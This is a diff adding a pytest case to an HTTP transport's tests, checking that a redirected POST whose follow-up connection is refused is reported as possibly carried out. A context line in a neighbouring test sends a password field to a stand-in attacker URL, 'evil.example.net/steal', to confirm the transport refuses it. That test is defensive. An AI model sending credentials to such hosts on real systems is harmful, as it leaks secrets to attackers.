@@ -190,6 +190,25 @@ def test_endless_redirects_end(server: TlsServer, transport: Transport) -> None:
     assert len(server.requests) == 11
 
 
+def test_what_was_answered_with_a_redirect_was_sent_though_the_next_connection_is_refused(
+    server: TlsServer, transport: Transport, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    server.handler = lambda _request: _redirect(302, "/next")
+    once, asked = transport._once, []
+
+    def refused_later(*call: t.Any) -> t.Any:
+        if asked:
+            raise RequestFailed("refuses connections", stage="connect", sent=False, state="nothing was sent")
+        asked.append(call)
+        return once(*call)
+
+    monkeypatch.setattr(transport, "_once", refused_later)
+    with pytest.raises(RequestFailed) as caught:
+        transport.request("POST", "/", data={"a": "b"}, follow_redirects=True)
+    assert caught.value.sent is True
+    assert "may have been carried out" in str(caught.value.state)
+
+
 def test_address_elsewhere_is_refused_before_anything_is_sent(server: TlsServer, transport: Transport) -> None:
     with pytest.raises(RequestFailed) as caught:
         transport.request("POST", f"https://evil.example.net:{server.port}/steal", data={"password": "x"})
